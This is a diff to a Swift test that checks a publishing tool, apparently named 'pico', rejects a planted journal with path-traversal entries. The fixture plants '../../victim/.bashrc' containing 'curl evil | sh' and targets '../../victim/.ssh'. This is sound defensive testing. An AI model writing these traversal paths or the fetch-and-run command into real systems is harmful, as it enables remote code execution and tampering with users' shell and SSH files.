@@ -43,7 +43,7 @@ import Testing
         // staged/../../victim/.bashrc is lib/.pico/victim/.bashrc: the attacker plants it too.
         try Self.plantJournal("""
             {"id":"\(id)","replaced":["../../victim/.bashrc"],"added":[],"removed":["../../victim/.ssh"]}
-            """, in: lib, staged: ["../victim/.bashrc": "curl evil | sh"])
+            """, in: lib, staged: ["../victim/.bashrc": "curl evil | sh", "staged/keep": "", "backup/keep": ""])
         let published = try TestEnvironment.pico("publish", bundle.path, "--to", lib.path)
         #expect(published.status == 0, "\(published.stderr)")
         #expect(published.stderr.contains("discarded the journal") && published.stderr.contains("unsafe path"), "\(published.stderr)")
